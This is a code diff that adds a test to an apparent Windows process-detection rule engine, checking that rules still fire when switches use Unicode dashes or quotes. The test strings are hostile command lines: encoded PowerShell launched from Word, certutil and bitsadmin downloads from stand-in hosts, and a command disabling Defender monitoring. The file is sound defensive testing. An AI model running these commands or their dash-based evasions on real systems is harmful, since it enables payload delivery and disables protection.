@@ -112,6 +112,29 @@ def test_download_defence_and_remote_exec_command_lines():
     assert rules_of(create(r"C:\Windows\System32\cmd.exe", r"cmd.exe /Q /c dir 1> C:\Windows\Temp\out.txt 2>&1")) == []
 
 
+def test_switches_spelt_with_a_unicode_dash_or_quoted_still_match():
+    """PowerShell, certutil and bitsadmin read U+2013/U+2014/U+2015 as '-' (T14): one character must not
+    pass a rule, nor quotes around the encoded command, nor Set-MpPreference's ``1`` for ``$true``."""
+    ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
+    word = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
+    b64 = "SQBmACgAJABQAFMAVgBFAFIAUwBpAE8AbgBUAGEAQgBsAEUA"
+    for command in (f"powershell.exe -nop \u2013enc {b64}", f"powershell.exe -nop \u2014e {b64}",
+                    f"powershell.exe \u2015EncodedCommand {b64}", f'powershell.exe -nop -enc "{b64}"',
+                    f"powershell.exe -EncodedCommand:{b64}"):
+        assert rules_of(create(ps, command, parent=word)) == ["script_stager"], command
+    cu = r"C:\Windows\System32\certutil.exe"
+    assert rules_of(create(cu, "certutil.exe \u2013urlcache \u2013f https://evil.example/a.txt a.exe")) == [
+        "lolbin_download"]
+    assert rules_of(create(cu, "certutil.exe \u2014decode a.b64 a.exe")) == ["lolbin_download"]
+    assert rules_of(create(r"C:\Windows\System32\bitsadmin.exe",
+                           "bitsadmin.exe \u2013transfer job https://x.example/a.ps1 C:\\t\\a.ps1")) == ["lolbin_download"]
+    mp = "powershell.exe Set-MpPreference -DisableRealtimeMonitoring 1"
+    assert rules_of(create(ps, mp)) == ["defence_change"]
+    # near misses stay quiet: protection turned back on, a plain dash-free word
+    assert rules_of(create(ps, mp.replace(" 1", " 0"))) == []
+    assert rules_of(create(ps, f"powershell.exe \u2013File encoder.ps1 {b64}", parent=word)) == []
+
+
 def test_one_act_logged_twice_counts_once():
     cu = r"C:\Windows\System32\certutil.exe"
     command = "certutil.exe -urlcache -f https://evil.example/a.txt a.exe"
